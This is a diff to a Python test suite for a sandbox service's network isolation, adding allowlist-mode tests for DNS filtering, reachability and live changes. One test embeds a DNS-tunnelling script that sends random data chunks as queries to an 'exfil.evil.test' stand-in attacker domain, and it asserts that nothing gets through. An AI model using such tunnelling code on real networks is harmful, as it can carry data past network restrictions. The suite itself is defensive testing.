@@ -1,8 +1,8 @@
 """Sandbox networks, modes "none" and "open", against the lab internet of
 tests/netlab: what may leave a sandbox, what never may, that root inside
 cannot loosen it, that DNS goes through forkbox's resolver and is audited,
-and that the mode changes live.  (Mode "allowlist" and the egress proxy are
-not in this version: 501.)"""
+allowlists, and that the mode changes live.  (The egress proxy with SNI and
+Host checks is not in this version.)"""
 import json
 import os
 import subprocess
@@ -213,10 +213,11 @@ def test_mode_changes_live_without_restarting_processes(make, client, lab):
 
 
 def test_bad_network_changes_are_refused(make, client):
-    """Unknown modes are 400, allowlist is 501 for now; nothing changes."""
+    """Unknown modes, bad entries and blocked ranges are 400; nothing changes."""
     sid = make()["id"]
     for body, code in (({"mode": "wide"}, 400), ({"mode": "open", "allow": ["x.test"]}, 400),
-                       ({"mode": "allowlist", "allow": ["pypi.org"]}, 501), ({"bogus": 1}, 400), ([], 400)):
+                       ({"mode": "allowlist", "allow": ["169.254.169.254"]}, 400),
+                       ({"mode": "allowlist", "allow": ["bad name.test"]}, 400), ({"bogus": 1}, 400), ([], 400)):
         r = client.put("/v1/sandboxes/%s/network" % sid, raw=json.dumps(body).encode(),
                        headers={"Content-Type": "application/json"})
         assert r.status == code, (body, r)
@@ -308,5 +309,91 @@ def test_cli_network_flags(daemon, cli_env, client):
         r = subprocess.run([CLI, "network", sid, "sideways"], env=cli_env, capture_output=True, text=True,
                            timeout=60)
         assert r.returncode != 0 and "network.mode" in r.stderr, (r.stdout, r.stderr)
+        r = subprocess.run([CLI, "network", sid, "allowlist", "Allowed.test", "198.18.0.50:80"], env=cli_env,
+                           capture_output=True, text=True, timeout=60)
+        assert r.returncode == 0, r.stderr
+        assert client.get("/v1/sandboxes/" + sid).json()["network"]["allow"] == ["allowed.test", "198.18.0.50:80"]
     finally:
         client.delete("/v1/sandboxes/" + sid)
+    r = subprocess.run([CLI, "create", "--allow", "allowed.test", "--allow", "*.cdn.test"], env=cli_env,
+                       capture_output=True, text=True, timeout=60)
+    assert r.returncode == 0, r.stderr
+    sid = r.stdout.strip()
+    try:
+        assert client.get("/v1/sandboxes/" + sid).json()["network"] == {"mode": "allowlist",
+                                                                          "allow": ["allowed.test", "*.cdn.test"]}
+    finally:
+        client.delete("/v1/sandboxes/" + sid)
+
+
+def resolve(client, sid, *names):
+    out = sh(client, sid, ["python3", "-c", RESOLVE] + list(names))
+    return {l.split(" ", 1)[0]: l.split(" ", 1)[1] for l in out.splitlines()}
+
+
+def test_allowlist_resolves_and_reaches_only_listed_destinations(make, client, lab):
+    """Only listed names resolve (exact and *. wildcard); only what they resolved to, or a listed CIDR:port, is reachable."""
+    sb = make(network={"mode": "allowlist", "allow": ["allowed.test", "*.cdn.test", "198.18.0.50/32:80"]})
+    assert sb["network"]["allow"] == ["allowed.test", "*.cdn.test", "198.18.0.50:80"]
+    sid = sb["id"]
+    got = resolve(client, sid, "allowed.test", "www.cdn.test", "other.test", "www.allowed.test", "cdn.test")
+    assert got["allowed.test"] == "['198.18.0.10']", got
+    assert got["www.cdn.test"] == "['198.18.0.30']", got  # wildcard; the CNAME target's address is learnt
+    for denied in ("other.test", "www.allowed.test", "cdn.test"):
+        assert got[denied].startswith("error"), got
+    res = probe(client, sid, "tcp,198.18.0.10,80", "tcp,198.18.0.30,80", "tcp,198.18.0.50,80",
+                "tcp,198.18.0.50,443", "tcp,198.18.0.20,80", "tcp,198.18.0.11,80")
+    assert res["tcp,198.18.0.10,80"]["ok"] and res["tcp,198.18.0.30,80"]["ok"], res
+    assert res["tcp,198.18.0.50,80"]["ok"], res
+    for t in ("tcp,198.18.0.50,443", "tcp,198.18.0.20,80", "tcp,198.18.0.11,80"):
+        assert not res[t]["ok"], res[t]
+    events = client.get("/v1/audit?sandbox=" + sid).json()["events"]
+    verdicts = {e["name"]: e["verdict"] for e in events}
+    assert verdicts["allowed.test"] == "allowed" and verdicts["other.test"] == "denied", verdicts
+
+
+def test_allowlist_dns_tunnel_reaches_nothing(make, client, lab):
+    """A DNS-tunnelling attempt towards a non-allowed domain delivers zero queries to its nameserver."""
+    sid = make(network={"mode": "allowlist", "allow": ["allowed.test"]})["id"]
+    lab.clear_logs()
+    code = r'''
+import os, socket, struct, binascii
+gw = open("/etc/resolv.conf").read().split()[1]
+def q(name, qtype):
+    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\0"
+    return os.urandom(2) + b"\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + labels + struct.pack("!HH", qtype, 1)
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); u.settimeout(3)
+rcodes = {}
+for i in range(60):
+    chunk = binascii.hexlify(os.urandom(16)).decode()
+    u.sendto(q("%s.%d.exfil.evil.test" % (chunk, i), 16 if i % 2 else 1), (gw, 53))
+    rc = u.recv(4096)[3] & 0xf
+    rcodes[rc] = rcodes.get(rc, 0) + 1
+t = socket.create_connection((gw, 53), timeout=3)
+m = q("tcp-leak.evil.test", 16)
+t.sendall(struct.pack("!H", len(m)) + m)
+ln = struct.unpack("!H", t.recv(2))[0]
+rcodes["tcp"] = t.recv(ln)[3] & 0xf
+print(rcodes)
+'''
+    out = sh(client, sid, ["python3", "-c", code], timeout=120)
+    assert out.strip() == "{3: 60, 'tcp': 3}", out  # all NXDOMAIN, answered by forkbox itself
+    assert lab.attacker_queries() == []
+    assert not any("evil" in json.dumps(rec) for rec in lab.log("dns")), lab.log("dns")
+    denied = [e for e in client.get("/v1/audit?sandbox=" + sid).json()["events"] if e["verdict"] == "denied"]
+    assert len(denied) == 61
+    assert {e["type"] for e in denied} == {"A", "TXT"}
+
+
+def test_allowlist_change_live(make, client, lab):
+    """Switching open -> allowlist live narrows what a running sandbox reaches."""
+    sid = make(network={"mode": "open"})["id"]
+    assert probe(client, sid, "tcp,198.18.0.20,80")["tcp,198.18.0.20,80"]["ok"]
+    r = client.put("/v1/sandboxes/%s/network" % sid,
+                   raw=json.dumps({"mode": "allowlist", "allow": ["allowed.test"]}).encode(),
+                   headers={"Content-Type": "application/json"})
+    assert r.status == 200, r
+    assert r.json()["network"] == {"mode": "allowlist", "allow": ["allowed.test"]}
+    assert not probe(client, sid, "tcp,198.18.0.20,80")["tcp,198.18.0.20,80"]["ok"]
+    assert resolve(client, sid, "allowed.test")["allowed.test"] == "['198.18.0.10']"
+    assert probe(client, sid, "tcp,198.18.0.10,80")["tcp,198.18.0.10,80"]["ok"]
